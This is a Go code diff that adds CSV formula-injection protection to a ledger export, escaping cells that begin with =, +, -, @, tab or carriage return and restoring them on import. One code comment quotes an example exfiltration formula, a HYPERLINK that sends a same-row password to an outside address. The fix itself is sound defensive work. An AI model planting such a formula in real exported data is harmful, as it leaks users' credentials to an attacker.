@@ -385,7 +385,7 @@ func exportCSV(st ledger.Reader, w io.Writer, includeSecrets bool) error {
 	rec := make([]string, len(cols))
 	err := ledgerRows(st, cols, includeSecrets, func(vals []cellValue) error {
 		for i, v := range vals {
-			rec[i] = textOf(v)
+			rec[i] = defuseFormula(textOf(v))
 		}
 		err := cw.Write(rec)
 		clear(rec)
@@ -399,6 +399,44 @@ func exportCSV(st ledger.Reader, w io.Writer, includeSecrets bool) error {
 		return err
 	}
 	return bw.Flush()
+}
+
+// A CSV cell that starts with = + - @ (or a tab or carriage return) is
+// a formula to Excel, WPS and LibreOffice when the file is opened:
+// =HYPERLINK("http://…?"&J2) in a notes cell would send the password in
+// J2 of the same row to whoever wrote the note. Such cells are written
+// with a leading apostrophe, which those programs show as text, and
+// reading a CSV removes it again (restoreFormula). A cell that already
+// starts with an apostrophe before such a character gets one more, so
+// that the round trip is exact.
+func formulaStart(v string) bool {
+	if v == "" {
+		return false
+	}
+	switch v[0] {
+	case '=', '+', '-', '@', '\t', '\r':
+		return true
+	case '\'':
+		return formulaStart(v[1:])
+	}
+	return false
+}
+
+// defuseFormula prefixes an apostrophe to a cell a spreadsheet would
+// take for a formula.
+func defuseFormula(v string) string {
+	if formulaStart(v) {
+		return "'" + v
+	}
+	return v
+}
+
+// restoreFormula undoes defuseFormula.
+func restoreFormula(v string) string {
+	if len(v) > 1 && v[0] == '\'' && formulaStart(v[1:]) {
+		return v[1:]
+	}
+	return v
 }
 
 func textOf(v cellValue) string {
